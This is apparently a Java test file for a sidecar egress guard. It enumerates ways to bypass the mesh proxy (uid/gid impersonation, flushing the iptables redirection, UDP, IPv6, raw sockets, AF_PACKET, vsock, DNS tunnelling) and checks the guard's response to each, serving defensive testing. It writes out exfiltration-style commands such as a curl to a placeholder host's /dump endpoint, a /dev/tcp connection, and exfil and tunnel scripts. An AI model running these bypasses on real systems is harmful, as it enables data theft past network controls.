package io.kith.load.evasion;

import static io.kith.load.evasion.Evasion.notCovered;
import static io.kith.load.evasion.Evasion.refused;
import static io.kith.load.evasion.Evasion.seen;
import static org.assertj.core.api.Assertions.assertThat;

import io.kith.bridge.guard.GuardReason;
import io.kith.load.evasion.Evasion.Place;
import io.kith.load.ffm.NetworkNamespace;
import io.kith.load.mesh.Mesh;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** Getting past the sidecar. */
final class BypassEvasions {
  private static final String DIRECT =
      "exec /usr/bin/curl -sSv --max-time 3 http://CATALOG:8080/dump";

  private BypassEvasions() {}

  static List<Evasion> all() {
    return List.of(
        refused(
            "The sidecar's user (uid 1337)",
            "T1562.004, T1090",
            "guard `proxy_user`: EPERM in connect(2)",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.PROXY_USER,
                    "/usr/bin/curl",
                    () -> it.as(1337, "/bin/bash", "-c", DIRECT))),
        refused(
            "The sidecar's group (gid 1337)",
            "T1562.004, T1090",
            "guard `proxy_user`",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.PROXY_USER,
                    "/usr/bin/curl",
                    () ->
                        it.rootBash(
                            DIRECT.replace(
                                "exec ",
                                "exec setpriv --reuid 1000 --regid 1337 --clear-groups ")))),
        refused(
            "The redirection flushed (CAP_NET_ADMIN)",
            "T1562.004",
            "guard `not_redirected`: the first packet is dropped",
            it -> {
              var pod = it.mesh.checkout();
              it.at.lab.changeCapture(pod, false, "-I OUTPUT -j ACCEPT");
              try {
                it.isRefusedByTheGuard(
                    GuardReason.NOT_REDIRECTED,
                    "/usr/bin/curl",
                    () -> it.app("/bin/bash", "-c", DIRECT));
              } finally {
                it.at.lab.changeCapture(pod, false, "-D OUTPUT 1");
              }
              it.at.assertWorks();
            }),
        refused(
            "The port of a connection of the sidecar's own that its server has reset",
            "T1562.004",
            "guard `not_redirected`: the kernel takes it for the sidecar's still. The bridge has it"
                + " forgotten, so the next packet is redirected, and asked about",
            BypassEvasions::takeThePortOfTheSidecar),
        refused(
            "UDP, QUIC",
            "T1048, T1095",
            "guard `udp`: EPERM where it is sent",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.UDP,
                    "/usr/bin/perl /tmp/datagram.pl",
                    () -> it.perl("datagram.pl", "STRANGER", "4433"))),
        refused(
            "IPv6 where only IPv4 is redirected",
            "T1562.004",
            "guard `family`: EPERM",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.FAMILY,
                    "/usr/bin/perl /tmp/exfil.pl",
                    () -> it.perl("exfil.pl", "STRANGER6", "4444"))),
        refused(
            "A port taken out of the redirection",
            "T1562.004, T1571",
            "guard `excluded`: EPERM",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.EXCLUDED,
                    "/usr/bin/perl /tmp/exfil.pl",
                    () -> it.perl("exfil.pl", "STRANGER", "3306"))),
        refused(
            "Envoy's administration on loopback",
            "T1562.001",
            "guard `proxy_port`: EPERM",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.PROXY_PORT,
                    "/usr/bin/curl",
                    () ->
                        it.app(
                            "/usr/bin/curl", "-sS", "--max-time", "3", "http://127.0.0.1:15000/"))),
        refused(
                "Another network joined (setns)",
                "T1611, T1562.004",
                "guard `not_redirected`: it follows the cgroup, not the network",
                it ->
                    it.isRefusedByTheGuard(
                        GuardReason.NOT_REDIRECTED,
                        "/usr/bin/curl",
                        () ->
                            Intruder.Said.of(
                                it.mesh
                                    .checkout()
                                    .exec(
                                        new NetworkNamespace(
                                            Path.of("/run/netns", it.at.lab.id() + "-resolver")),
                                        Intruder.LIMIT,
                                        1000,
                                        it.argv("/bin/bash", "-c", DIRECT)))))
            .onlyIn(Place.NAMESPACES),
        refused(
            "ICMP echo",
            "T1095",
            "guard `other_protocol`: EPERM",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.OTHER_PROTOCOL,
                    "",
                    () -> it.rootPerl("raw.pl", "1", "SELF", "STRANGER", "0"))),
        refused(
            "A protocol of one's own from a raw socket",
            "T1095",
            "guard `other_protocol`",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.OTHER_PROTOCOL,
                    "",
                    () -> it.rootPerl("raw.pl", "253", "SELF", "STRANGER", "0"))),
        refused(
            "UDP from a raw socket",
            "T1095",
            "guard `udp`",
            it ->
                it.isRefusedByTheGuard(
                    GuardReason.UDP,
                    "",
                    () -> it.rootPerl("raw.pl", "17", "SELF", "STRANGER", "4433"))),
        notCovered(
            "TCP without a connection from a raw socket",
            "T1095",
            "raw socket: a packet without SYN passes as one of an open connection. " + NET_RAW,
            it -> {
              it.at.forget();

              assertThat(it.rootPerl("raw.pl", "6", "SELF", "STRANGER", "4444").text())
                  .contains("sent");
              assertThat(it.mesh.guard().status()).contains("may send packets that no guard sees");
            }),
        notCovered(
            "Frames (AF_PACKET)",
            "T1095, T1205",
            "AF_PACKET: no hook of a cgroup sees a frame. " + NET_RAW,
            it -> {
              it.at.forget();

              var said = it.rootPerl("packet.pl", "SELF", "STRANGER", "4433");

              Mesh.await(
                  "the datagram of " + said,
                  Intruder.LIMIT,
                  () -> it.at.strangerDatagrams.bytes() > 0);
              assertThat(it.mesh.guard().status()).contains("may send packets that no guard sees");
            }),
        notCovered(
            "vsock",
            "T1095",
            "vsock: no packet and no hook; it needs no capability. A seccomp profile that refuses"
                + " AF_VSOCK, as Docker's and containerd's default ones do",
            it -> {
              var before = it.mesh.guard().status();

              // Whether somebody listens depends on the machine; nobody of Kith sees the attempt.
              var said = it.perl("vsock.pl", "1", "4433");

              assertThat(said.text()).matches("(?s)(sent|connect: |socket: ).*");
              assertThat(before).isNotEmpty();
            }),
        seen(
            "Names that carry data (DNS through the resolver)",
            "T1071.004, T1572, T1048",
            "the guard counts who asks a resolver, by process (`kith bridge status`); what they ask"
                + " is not judged. With Istio's DNS proxy, name no resolver but the sidecar's",
            it -> {
              var words = GuardReason.RESOLVER.words();
              var before = it.mesh.guard().count(words).seen();
              it.at.forget();

              var said = it.perl("tunnel.pl", "RESOLVER", "200");

              assertThat(said.text()).contains("asked");
              Mesh.await(
                  "200 questions counted",
                  Intruder.LIMIT,
                  () -> it.mesh.guard().count(words).seen() == before + 200);
              assertThat(it.at.resolver.bytes()).isPositive();
              assertThat(it.mesh.guard().status())
                  .containsPattern("to a resolver, net:\\[\\d+]: .*/tmp/tunnel\\.pl");
            }));
  }

  private static void takeThePortOfTheSidecar(Intruder it) throws Exception {
    var pod = it.mesh.checkout();
    pod.namespace().call(() -> Files.writeString(CLOSED_SECONDS, "600")); // in place of 10
    try {
      it.isRefusedByTheGuard(
          GuardReason.NOT_REDIRECTED,
          "/usr/bin/perl /tmp/from-port.pl",
          () -> {
            var held = pod.start(1000, "", List.of("/bin/bash", "-c", HELD));
            Mesh.await(
                "the forwarder's connection",
                Intruder.LIMIT,
                () -> !it.mesh.database().connections().isEmpty());
            var port = it.mesh.database().connections().getFirst().peer().getPort();
            it.mesh.database().reset();

            var said = it.perl("from-port.pl", "DB", "5432", Integer.toString(port));

            pod.write("/tmp/go-on", "");
            held.await(Intruder.LIMIT);
            return said;
          });
    } finally {
      pod.namespace().call(() -> Files.writeString(CLOSED_SECONDS, "10"));
    }
  }

  private static final Path CLOSED_SECONDS =
      Path.of("/proc/sys/net/netfilter/nf_conntrack_tcp_timeout_close");

  /** Has the program that forwards connect to the database, and says nothing until it may. */
  private static final String HELD =
      """
      exec 3<>/dev/tcp/127.0.0.1/3128
      until [ -e /tmp/go-on ]; do sleep 0.1; done
      echo DUMP >&3
      read -r line <&3
      """;

  private static final String NET_RAW =
      "It needs CAP_NET_RAW: drop it. `kith bridge status` and `kith_guard_raw_pods` show who has"
          + " it";
}
